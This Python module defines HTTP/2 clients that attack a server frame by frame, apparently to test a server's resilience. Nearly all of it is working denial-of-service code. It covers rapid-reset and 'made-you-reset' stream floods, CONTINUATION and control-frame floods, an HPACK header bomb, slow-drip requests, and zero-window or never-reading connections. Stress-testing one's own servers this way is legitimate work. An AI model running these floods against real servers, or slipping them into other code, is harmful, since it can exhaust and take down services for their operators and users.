"""Clients of HTTP/2 that attack the server at --port, frame by frame."""
import itertools

from clients import CONNECTIONS, attacks, crowds, discards_answers, drips, many, reads_and_floods, wait_for_end

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
# The most frames sent in one piece.
BURST = 50


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
# Windows of 0 for all streams.
CLOSED_PREFACE = PREFACE[:24] + frame(SETTINGS, payload=b"\0\4" + bytes(4))


def fields(method=b"\x82", path=b"\x84"):
    """:method GET or POST, :scheme http, :path / or another, :authority localhost; nothing enters the table."""
    return method + b"\x86" + path + b"\x01\x09localhost"


GET = fields()
POST = fields(b"\x83")
LARGE = fields(path=b"\x04\x06/large")

# A field of 4,000 bytes, which enters the table: later blocks mean it with one byte.
LONG_FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4_000


def streams():
    return itertools.count(1, 2)


def floods(make, start=b""):
    """Sends what `make(stream)` returns for ever higher streams, as fast as possible, and reads what comes back."""

    def attack(connection):
        connection.send(PREFACE + start)
        discards_answers(connection)
        numbers = streams()
        while True:
            connection.send(b"".join(make(stream) for stream in itertools.islice(numbers, BURST)))

    return attack


def repeats(block, start=b""):
    """Sends one block of frames again and again, as fast as possible, and reads what comes back."""

    def attack(connection):
        connection.send(PREFACE + start)
        reads_and_floods(connection, block)

    return attack


def headers(stream, block=GET, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, block)


def never_reads(connection):
    """Asks for more than any buffer holds, on all streams, and reads nothing."""
    connection.send(PREFACE)
    connection.send(frame(WINDOW_UPDATE, payload=(1 << 30).to_bytes(4, "big")))
    for stream in itertools.islice(streams(), 100):
        connection.send(headers(stream, LARGE))
    wait_for_end(connection)


def closed_windows(connection):
    """Reads, but gives no credit for any response."""
    connection.send(CLOSED_PREFACE)
    for stream in itertools.islice(streams(), 100):
        connection.send(headers(stream, LARGE))
    while True:
        connection.read_more()
        connection.received = b""


MODES = {
    "server-http2-requests": many(floods(headers)),
    "server-http2-rapid-reset": many(
        floods(lambda stream: headers(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))),
    "server-http2-made-you-reset": many(
        floods(lambda stream: headers(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4)))),
    "server-http2-malformed": many(floods(lambda stream: headers(stream, b"\x82\x82"))),
    # The connections outlive their requests, which have the limit, by their idle time.
    "server-http2-never-reads": attacks(never_reads, 16),
    "server-http2-closed-windows": attacks(closed_windows, 16),
    "server-http2-body-drip": attacks(
        drips(PREFACE + b"".join(headers(stream, POST, END_HEADERS) for stream in range(1, 200, 2)),
              frame(DATA, 0, 1, b"x")), CONNECTIONS),
    "server-http2-head-drip": attacks(
        drips(PREFACE, frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")), CONNECTIONS,
        measures=True),
    "server-http2-one-byte-frames": many(
        repeats(frame(DATA, 0, 1, b"x"), headers(1, POST, END_HEADERS))),
    "server-http2-empty-frames": many(repeats(frame(DATA, 0, 1), headers(1, POST, END_HEADERS))),
    "server-http2-continuations": many(repeats(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"), frame(HEADERS, 0, 1, GET))),
    "server-http2-pings": many(repeats(frame(PING, payload=bytes(8)))),
    "server-http2-settings": many(repeats(frame(SETTINGS))),
    "server-http2-priorities": many(repeats(frame(PRIORITY, 0, 3, bytes(5)))),
    "server-http2-credit": many(repeats(frame(WINDOW_UPDATE, payload=b"\0\0\0\1"))),
    "server-http2-header-bomb": many(
        floods(lambda stream: headers(stream + 2, GET + b"\xbe" * 16_000), start=headers(1, GET + LONG_FIELD))),
    "server-http2-silent": crowds(PREFACE),
}
